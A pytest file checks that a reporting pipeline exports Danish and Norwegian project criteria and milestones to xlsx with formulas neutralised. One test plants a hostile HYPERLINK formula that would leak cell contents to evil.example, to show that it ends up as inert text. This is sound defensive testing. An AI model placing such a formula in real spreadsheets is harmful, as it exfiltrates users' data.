"""<report>.xlsx: criteria and milestones from the published results, in the report's language, never a formula."""

import io
import json
from datetime import datetime

import pytest
from openpyxl import load_workbook

from pipeline.cli import main
from pipeline.present.report import Report
from pipeline.project import load_project
from pipeline.run.workbook import neutralise, workbook

EXAMPLE, PERIOD = "helhedsplan-norrevang", "2022-2025"


def open_book(results: dict):
    return load_workbook(io.BytesIO(workbook(results)))


@pytest.fixture(scope="module")
def danish() -> dict:
    return Report.open(EXAMPLE).results()


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=HYPERLINK(\"http://x.example\")"])
def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Forummøde maj 2024", "2024-05-28", "K1 – flere i job", "", "'quoted", " =1"])
def test_other_text_is_left_as_it_is(text):
    assert neutralise(text) == text


def test_a_milestone_titled_as_a_formula_comes_out_as_inert_text(example_copy):
    milestones = example_copy / "milestones.csv"
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Klikk her")'
    csv_title = '"' + formula.replace('"', '""') + '"'
    milestones.write_text(milestones.read_text(encoding="utf-8") + f"M99,{csv_title},,Nettverk,2016-06-01,,\n", encoding="utf-8")
    results = Report(load_project(example_copy)).results()
    sheet = open_book(results)["Milestones"]
    (cell,) = [row[1] for row in sheet.iter_rows(min_row=2) if row[0].value == "M99"]
    assert cell.data_type == "s"
    assert cell.value == "'" + formula


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_no_criterion_title_becomes_a_formula(danish, start):
    results = {**danish, "criteria": [{**danish["criteria"][0], "title": start + "SUM(1,2)"}]}
    cell = open_book(results)["Criteria"]["B2"]
    assert (cell.data_type, cell.value) == ("s", "'" + start + "SUM(1,2)")


def test_criteria_sheet_has_numbers_percentages_and_danish_status_words(danish):
    sheet = open_book(danish)["Criteria"]
    assert [c.value for c in sheet[1]] == ["ID", "Succeskriterium", "Målt ved", "Resultat", "Mål", "Opnåelsesgrad", "Status"]
    words = {"met": "Opfyldt", "partly_met": "Delvist opfyldt", "not_met": "Ikke opfyldt", "no_data": "Ingen data", "not_applicable": "Ikke relevant"}
    rows = list(sheet.iter_rows(min_row=2))
    assert [row[0].value for row in rows] == [c["id"] for c in danish["criteria"]]
    for row, criterion in zip(rows, danish["criteria"]):
        _, title, kind, actual, target, attainment, status = row
        assert (title.value, kind.value, actual.value, target.value) == (criterion["title"], criterion["kind"], criterion["actual"], criterion["target"])
        assert attainment.value == criterion["attainment"]
        if criterion["attainment"] is not None:
            assert attainment.data_type == "n" and attainment.number_format == "0.0%"
        assert status.value == words[criterion["status"]]


def test_milestones_sheet_has_real_dates_outcomes_and_slippage(danish):
    sheet = open_book(danish)["Milestones"]
    assert [c.value for c in sheet[1]] == ["ID", "Milepæl", "Enhed", "Fase", "Planlagt", "Prognose", "Gennemført", "Status", "Forsinkelse (dage)"]
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    assert list(rows) == [m["id"] for m in danish["milestone_rows"]]
    # milestones.csv: O03 planned 2022-03-01, done 2022-04-04; A02 not done, forecast 2026-01-29.
    o03 = rows["O03"]
    assert o03[4].value == datetime(2022, 3, 1) and o03[4].is_date and o03[4].number_format == "dd.mm.yyyy"
    assert o03[6].value == datetime(2022, 4, 4) and o03[6].is_date
    assert (o03[7].value, o03[8].value) == ("Gennemført forsinket", 34)
    a02 = rows["A02"]
    assert (a02[5].value, a02[6].value, a02[7].value, a02[8].value) == (datetime(2026, 1, 29), None, "Ikke gennemført, forsinket", 63)


def test_headers_are_bold_frozen_and_columns_have_widths(danish):
    for sheet in open_book(danish):
        assert sheet.freeze_panes == "A2"
        assert all(cell.font.bold for cell in sheet[1])
        assert not any(cell.font.bold for cell in sheet[2])
        assert all(sheet.column_dimensions[cell.column_letter].width >= 8 for cell in sheet[1])
        assert sheet.column_dimensions["B"].width >= 40  # titles are read, not guessed at


def test_a_norwegian_report_gets_norwegian_words():
    results = Report.open("bosetting-vestfold").results()
    book = open_book(results)
    assert book.sheetnames == ["Criteria", "Milestones"]
    assert book["Milestones"]["B1"].value == "Milepæl" and book["Milestones"]["C1"].value == "Enhet"
    assert {row[7].value for row in book["Milestones"].iter_rows(min_row=2)} <= {"Gjennomført i tide", "Gjennomført forsinket", "Ikke gjennomført, forsinket", "Ikke forfalt ennå", "Avlyst"}


def test_a_run_publishes_the_workbook_beside_the_report(tmp_path):
    assert main(["--reports", str(tmp_path), "run", EXAMPLE, "--report", "end_report", "--format", "html"]) == 0
    folder = tmp_path / EXAMPLE / PERIOD
    results = json.loads((folder / "end_report.results.json").read_text(encoding="utf-8"))
    book = load_workbook(folder / "end_report.xlsx")
    assert [row[0].value for row in book["Criteria"].iter_rows(min_row=2)] == [c["id"] for c in results["criteria"]]
    assert "end_report.xlsx" in json.loads((folder / "run.json").read_text())["end_report"]["outputs"]
    assert not list(folder.glob(".*.tmp")), "written through a temporary file, renamed into place"
